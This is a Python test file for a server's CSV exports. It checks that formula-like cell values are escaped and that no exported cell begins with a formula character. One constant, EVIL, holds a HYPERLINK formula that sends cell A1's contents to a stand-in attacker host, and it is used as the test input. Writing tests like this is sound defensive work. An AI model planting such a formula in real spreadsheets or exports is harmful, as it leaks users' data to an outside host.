"""CSV that a spreadsheet opens: no cell is a formula, whatever it was made of."""

import csv
import io

import pytest

from server.services import exports
from server.services.csv_lines import csv_line, safe_cell
from tests import factories

EVIL = '=HYPERLINK("http://jahat.test/?"&A1,"klik")'


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1", "=", EVIL]
)
def test_a_text_like_a_formula_is_written_as_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Suparmi", "RT 001", "a=b", "'=1", "359901******0001"])
def test_other_texts_stay(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers():
    assert csv_line((-7.55, -1, None, "x,y")) == '-7.55,-1,,"x,y"\n'


def test_no_cell_of_any_export_is_a_formula(office):
    with office.session() as session:
        factories.make_areas(session)
        officer = factories.make_officer(session, office.backends, office.project_id, EVIL)
        household = factories.make_household(session, office.project_id, EVIL, source_id=EVIL)
        session.flush()
    office.publish(
        b"| survey | | | |\n| | type | name | label |\n| | text | a | A |\n| settings | | |\n| | form_id | version |\n| | satu | 1 |\n"
    )
    with office.session() as session:
        form = factories.get_form(session, office.project_id, "satu")
        visit = factories.make_submission(
            session, form, household, officer=officer, instance_id="@uuid:1", lat=-7.5, lon=112.2
        )
        factories.make_finding(session, visit, code="-AS01", evidence={"=a": EVIL})
    with office.session() as session:
        for table in (exports.iter_findings_csv, exports.iter_visits_csv, exports.iter_households_csv):
            header, *rows = csv.reader(io.StringIO("".join(table(session, office.project_id, None))))
            assert rows, table
            for name, cell in ((name, cell) for row in rows for name, cell in zip(header, row, strict=True)):
                if name not in ("lat", "lon"):
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
                else:
                    float(cell)
